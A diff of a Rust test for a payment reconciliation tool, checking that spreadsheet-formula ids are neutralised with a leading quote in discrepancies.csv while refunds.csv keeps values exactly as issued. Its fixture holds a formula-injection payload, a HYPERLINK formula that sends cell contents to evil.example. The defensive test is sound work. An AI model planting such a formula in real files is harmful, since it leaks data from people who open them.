@@ -1,7 +1,9 @@
 //! Outputs safe to open (guarantee 6): ids that look like spreadsheet
-//! formulas reach refunds.csv and discrepancies.csv neutralised (a leading
-//! `'`), amounts untouched; refunds.csv is owner-only (0600) unless the
-//! config says otherwise, also when it replaces an earlier file.
+//! formulas reach discrepancies.csv, the CSV people open, neutralised (a
+//! leading `'`), amounts untouched; refunds.csv, the refund job's machine
+//! contract, holds every value exactly as issued (issue 13); refunds.csv is
+//! owner-only (0600) unless the config says otherwise, also when it
+//! replaces an earlier file.
 
 use crate::util::{Workdir, parse_csv};
 
@@ -45,12 +47,12 @@ fn formula_day(work: &Workdir) -> Vec<String> {
 }
 
 #[test]
-fn formula_looking_ids_are_neutralised_in_every_csv() {
+fn formula_looking_ids_are_neutralised_for_people_and_exact_for_the_refund_job() {
     let work = Workdir::new();
     let args = formula_day(&work);
     let args: Vec<&str> = args.iter().map(String::as_str).collect();
     work.run("out", &args).assert().success();
-    for file in ["refunds.csv", "discrepancies.csv"] {
+    for file in ["discrepancies.csv"] {
         let (header, rows) = parse_csv(&work.read(&format!("out/{file}")));
         assert!(!rows.is_empty(), "{file} has rows");
         for row in &rows {
@@ -65,19 +67,19 @@ fn formula_looking_ids_are_neutralised_in_every_csv() {
     let (_, refunds) = parse_csv(&work.read("out/refunds.csv"));
     let order_id = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
     assert_eq!(
-        refunds,
-        vec![vec![
+        refunds[0][..9],
+        [
             refunds[0][0].clone(),
             "wechat".to_string(),
-            format!("'{TXN}"),
-            format!("'{CHANNEL_ORDER}"),
-            format!("'{order_id}"),
-            format!("'{PAYMENT}"),
+            TXN.to_string(),
+            CHANNEL_ORDER.to_string(),
+            order_id.to_string(),
+            PAYMENT.to_string(),
             "10.00".to_string(),
             "CNY".to_string(),
             "DUPLICATE_PAYMENT".to_string(),
-        ]],
-        "the values stay readable after the quote, the amount a number"
+        ],
+        "refunds.csv is a machine contract: the values exactly as issued"
     );
     let report = work.read("out/discrepancies.csv");
     for text in [
